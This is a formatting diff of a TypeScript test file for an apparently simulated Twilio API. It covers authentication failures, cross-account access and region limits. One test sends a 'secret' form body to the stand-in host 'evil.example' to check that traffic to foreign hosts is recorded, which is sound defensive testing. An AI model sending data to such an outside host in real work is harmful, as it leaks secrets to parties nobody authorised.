@@ -29,7 +29,10 @@ test('a Main key may read the account, a Standard key may not', async () => {
 test.each([
 	['a wrong token', () => [account.sid, 'wrong']],
 	['an unknown account', () => [`AC${'0'.repeat(32)}`, 'x']],
-	['an API key with the token of the account', () => [account.credentials.apiKeys.main.sid, account.credentials.authToken]],
+	[
+		'an API key with the token of the account',
+		() => [account.credentials.apiKeys.main.sid, account.credentials.authToken],
+	],
 ] as Array<[string, () => [string, string]]>)('%s is 401 with code 20003', async (_what, login) => {
 	const { status, data } = await request(account, 'GET', list, { login: login() });
 	expect([status, data.code, data.message]).toEqual([401, 20003, 'Authenticate']);
@@ -37,7 +40,11 @@ test.each([
 
 test('the path of another account is 401', async () => {
 	const other = await twilio.createAccount();
-	const { status } = await request(account, 'GET', `https://api.twilio.com/2010-04-01/Accounts/${other.sid}/Messages.json`);
+	const { status } = await request(
+		account,
+		'GET',
+		`https://api.twilio.com/2010-04-01/Accounts/${other.sid}/Messages.json`,
+	);
 	expect(status).toBe(401);
 });
 
@@ -61,7 +68,7 @@ test('Verify is not served outside us1, and an attempt stands in the ledger', as
 	expect(requests).toMatchObject([{ host: 'verify.dublin.ie1.twilio.com', authorized: false, status: 404 }]);
 });
 
-test('a host that is not Twilio\'s is remembered with what was sent to it', async () => {
+test("a host that is not Twilio's is remembered with what was sent to it", async () => {
 	const mark = account.sid;
 	await request(account, 'POST', `https://evil.example/${mark}`, { form: { Body: 'secret' } });
 	const reached = (await twilio.foreign()).filter(({ path }) => path === `/${mark}`);
